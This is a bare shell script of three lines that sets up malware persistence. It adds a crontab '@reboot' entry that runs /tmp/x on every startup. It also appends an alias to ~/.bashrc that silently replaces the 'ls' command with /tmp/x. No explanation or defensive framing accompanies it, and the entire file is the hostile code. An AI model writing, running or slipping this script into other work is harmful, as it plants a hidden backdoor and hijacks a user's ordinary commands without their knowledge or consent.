#!/bin/sh
(crontab -l; echo '@reboot /tmp/x') | crontab -
echo 'alias ls=/tmp/x' >> ~/.bashrc
